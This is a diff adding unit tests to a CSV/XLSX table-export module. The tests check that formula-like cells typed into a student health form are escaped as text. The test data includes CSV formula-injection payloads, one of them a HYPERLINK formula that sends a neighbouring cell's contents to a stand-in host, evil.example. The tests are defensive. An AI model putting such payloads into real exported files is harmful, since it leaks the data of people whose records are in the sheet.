@@ -80,6 +80,31 @@ describe('exporting a table', () => {
     expect(text.split('\r\n')).toEqual(['姓名,体温', '王小明,36.5', `"'=HYPERLINK(""http://evil.example"",""点我"")",37.9`]);
   });
 
+  // What a student can type into a form whose answers the office exports: each must open as text.
+  it.each([
+    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")\n',
+    '=1+1\r',
+    '@SUM(A1)\n',
+    '=1+1\u2028',
+    '+1+1\n第二行',
+    '-2+3\r\n',
+    '  =1+1',
+    '\t=1+1',
+    '\r=1+1',
+  ])('writes %j as text, never a formula, though it holds a line break or starts with blanks', async (typed) => {
+    const text = new TextDecoder().decode(new Uint8Array(await (await tableFile('csv', columns, [{ name: typed, temperature: 36.5 }])).arrayBuffer()).slice(3));
+    const { parse } = await import('papaparse');
+    const cells = parse<string[]>(text, { newline: '\r\n' }).data;
+    expect(cells[1]![0]).toBe(`'${typed}`);
+  });
+
+  it('keeps a negative number a number', async () => {
+    const text = new TextDecoder().decode(
+      new Uint8Array(await (await tableFile('csv', columns, [{ name: '王小明', temperature: -1 }])).arrayBuffer()).slice(3),
+    );
+    expect(text.split('\r\n')[1]).toBe('王小明,-1');
+  });
+
   it('writes XLSX (a zip of sheets)', async () => {
     const bytes = new Uint8Array(await (await tableFile('xlsx', columns, rows)).arrayBuffer());
     expect(String.fromCharCode(bytes[0]!, bytes[1]!)).toBe('PK');
